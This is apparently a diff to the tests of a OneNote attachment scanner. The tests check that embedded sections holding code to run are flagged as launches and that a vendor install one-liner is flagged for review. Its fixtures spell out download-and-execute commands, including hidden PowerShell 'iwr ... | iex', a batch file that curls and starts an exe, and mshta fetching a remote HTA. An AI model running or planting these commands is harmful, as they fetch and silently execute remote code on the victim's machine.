@@ -21,7 +21,7 @@ HTA = (
     b'CreateObject("WScript.Shell").Run "powershell -w hidden -c iwr http://198.51.100.4/a.ps1|iex", 0'
     b"</script></head></html>"
 )
-BATCH = b"@echo off\r\ncurl -s -o %TEMP%\\a.exe http://198.51.100.4/a.exe\r\nstart %TEMP%\\a.exe\r\n"
+BATCH = b"@echo off\r\ncurl -s -o %TEMP%\\a.exe http://198.51.100.4/a.exe\r\nstart /b %TEMP%\\a.exe\r\n"
 PNG = b"\x89PNG\r\n\x1a\n" + bytes(500)
 
 
@@ -50,6 +50,7 @@ def test_a_length_past_the_section_is_cut_and_not_all_read() -> None:
             r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "-c iwr http://x.example/a|iex"
         ),
         b'Set s = CreateObject("WScript.Shell")\r\ns.Run "mshta http://x.example/a.hta", 0\r\n',
+        b'powershell -w hidden -c "iwr https://x.example/a.ps1 | iex"\r\n',
     ],
 )
 def test_a_section_embedding_code_to_run_is_a_launch(payload: bytes) -> None:
@@ -74,3 +75,11 @@ def test_what_a_notebook_embeds_is_scanned_like_any_member() -> None:
 def test_a_section_beyond_the_limits_is_never_clean() -> None:
     v, result, _ = judge(F.onenote([PNG] * (onenote.MAX_EMBEDDED + 1)), "many.one")
     assert v is not Verdict.clean and result.status is ScanStatus.too_large
+
+
+def test_a_runbooks_installer_one_liner_is_a_review_not_a_launch() -> None:
+    # a vendor's install one-liner in plain sight reads as a dropper's download does: an operator looks
+    install = b"powershell -c \"iex ((New-Object Net.WebClient).DownloadString('https://community.example.org/install.ps1'))\""
+    v, result, findings = judge(F.onenote([install], "Install the package manager"), "runbook.one")
+    assert v is Verdict.review and findings[0].confidence == 0.7
+    assert result.reports[0].active == {onenote.ONENOTE_EMBEDDED_SCRIPT: 1}
